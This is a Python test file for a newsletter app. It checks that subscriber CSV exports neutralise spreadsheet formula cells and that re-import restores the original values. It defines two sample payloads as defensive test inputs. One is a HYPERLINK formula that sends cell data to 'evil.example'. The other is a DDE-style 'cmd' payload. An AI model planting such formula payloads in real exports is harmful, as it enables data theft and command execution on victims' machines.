"""Subscriber exports are safe to open in a spreadsheet, and the import reads such cells back as they were."""

import csv
import io

from tests.newsletters.conftest import Newsroom
from tests.newsletters.test_importing import run_import

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"ნახეთ")'
HOSTILE_ORG = "+1+cmd|' /C calc'!A0"


async def export(room: Newsroom) -> list[dict[str, str]]:
    response = await room.client.get("/api/v1/subscribers/export", headers=room.admin)
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.text)))


async def test_formula_cells_are_neutralised_in_the_export_and_recovered_on_import(
    newsroom: Newsroom,
) -> None:
    written = io.StringIO()
    writer = csv.writer(written)
    writer.writerow(["email", "name", "organisation", "lang", "lists"])
    writer.writerow(["-dash@example.ge", HOSTILE_NAME, HOSTILE_ORG, "ka", "press"])
    writer.writerow(["plain@example.ge", "ნინო", "IOM", "en", "press"])
    report = await run_import(newsroom, written.getvalue())
    assert report["created"] == 2, report
    stored = await newsroom.find("-dash@example.ge")
    assert (stored["name"], stored["organisation"]) == (HOSTILE_NAME, HOSTILE_ORG)

    rows = {row["email"]: row for row in await export(newsroom)}
    hostile = rows["'-dash@example.ge"]
    assert (hostile["name"], hostile["organisation"]) == ("'" + HOSTILE_NAME, "'" + HOSTILE_ORG)
    # No cell of the export starts a formula.
    for row in rows.values():
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    assert (rows["plain@example.ge"]["name"], rows["plain@example.ge"]["organisation"]) == ("ნინო", "IOM")

    # The export's own columns, imported again into the same list, change nothing: the values match.
    again = io.StringIO()
    writer = csv.writer(again)
    writer.writerow(["email", "name", "organisation", "lang", "lists"])
    for row in rows.values():
        writer.writerow([row["email"], row["name"], row["organisation"], row["lang"], row["lists"]])
    report = await run_import(newsroom, again.getvalue())
    assert (report["unchanged"], report["created"], report["refused"]) == (2, 0, 0), report
